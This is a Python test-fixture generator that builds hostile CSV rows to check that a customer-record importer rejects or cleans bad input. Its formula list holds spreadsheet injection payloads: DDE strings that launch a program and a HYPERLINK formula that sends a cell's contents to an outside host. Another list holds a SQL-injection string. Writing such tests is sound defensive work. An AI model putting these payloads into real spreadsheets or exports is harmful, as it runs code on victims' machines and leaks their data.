"""Rows that were made to do harm, or that careless programs make."""

import csv
import io
import random

LONG = "长" * 3_500_000  # more than ten megabytes
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1|x",
)
UNSEEN = ("Pine\x00Trading", "Pine\u202egnidarT", "Pine\u200b\x07", "\ufeffPine")
PLEASANT = ("🐉 龙门 👨‍👩‍👧", "شركة النخيل", "חברת הזית", "O'Brien; DROP TABLE x;--")
HEADERS = ("Customer Name", "Parent", "Phone", "Email", "Notes", "City")


def hostile_rows(count, seed=7):
    """Rows to be refused or cleaned, with what is expected of each.

    :return: a list of ``(bytes of the line, what follows)``: ``bad``, ``note``,
        ``good`` or ``any``
    """
    chance, rows = random.Random(seed), []
    kinds = (
        _long,
        _formula,
        _formula,
        _unseen,
        _broken,
        _circle,
        _pleasant,
        _nameless,
        _noise,
        _injection,
    )
    for number in range(count):
        kind = kinds[number % len(kinds)] if number != 0 else _huge
        rows.append(kind(number, chance))
    return rows


def line(*cells):
    """A row as CSV in UTF-8."""
    text = io.StringIO()
    csv.writer(text).writerow(cells)
    return text.getvalue().encode()


def _huge(number, _chance):
    return line("Huge", "", "", "", LONG, ""), "bad"


def _long(number, _chance):
    return line(f"Long {number} " + "x" * 5_000, "", "", "", "", ""), "bad"


def _formula(number, chance):
    return line(chance.choice(FORMULAS), "", "", "", "", ""), "bad"


def _unseen(number, chance):
    return line(f"{chance.choice(UNSEEN)} {number}", "", "", "", "", ""), "note"


def _broken(number, _chance):
    return f"Broken {number} ".encode() + b"\xff\xfe\xc3,,,,,\r\n", "bad"


def _circle(number, _chance):
    return line(f"Circle {number}", f"Circle {number}", "", "", "", ""), "bad"


def _pleasant(number, chance):
    return line(f"{chance.choice(PLEASANT)} {number}", "", "", "", "", ""), "good"


def _nameless(number, _chance):
    return line("", "", "021-68880000", "", "", "Shanghai"), "bad"


def _noise(number, chance):
    signs = "".join(chr(chance.randrange(1, 0xD7FF)) for _n in range(40))
    return line(f"Noise {number} {signs}", "", signs, signs, "", ""), "any"


def _injection(number, _chance):
    return line(f"%s %(x)s {{0}} {number}", "", "", "'; --", "", ""), "good"
